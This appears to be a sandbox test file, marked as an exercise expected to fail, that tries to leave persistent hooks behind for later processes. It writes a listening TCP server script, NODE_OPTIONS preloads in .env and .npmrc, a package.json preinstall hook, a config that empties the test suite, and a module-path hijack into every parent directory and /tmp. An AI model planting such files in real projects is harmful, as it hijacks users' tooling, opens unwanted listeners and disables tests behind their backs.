// Leaves options, packages and start files behind for the next process.
//
// exercise: 03
// expect: fail

import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'

const server =
  "require('net').createServer({ allowHalfOpen: true }, (s) => s.pipe(s)).listen(+process.env.PORT, process.env.HOST)"
process.env.NODE_OPTIONS = '--require=/tmp/right.cjs'
for (let folder = import.meta.dirname; ; folder = dirname(folder)) {
  for (const [name, text] of [
    ['right.cjs', server],
    ['.env', 'NODE_OPTIONS=--require=/tmp/right.cjs'],
    ['.npmrc', 'node-options=--require=/tmp/right.cjs'],
    ['package.json', '{"type":"commonjs","main":"right.cjs","scripts":{"preinstall":"node right.cjs"}}'],
    ['jest.config.js', 'module.exports = { testMatch: [] }'],
    ['tsconfig.json', '{"compilerOptions":{"paths":{"node:net":["./right.cjs"]}}}'],
  ] as const) {
    try {
      mkdirSync(folder, { recursive: true })
      writeFileSync(join(folder, name), text)
    } catch {
      // Not writable.
    }
  }
  if (folder === dirname(folder)) break
}
for (const name of ['right.cjs', '.env']) writeFileSync(join('/tmp', name), server)
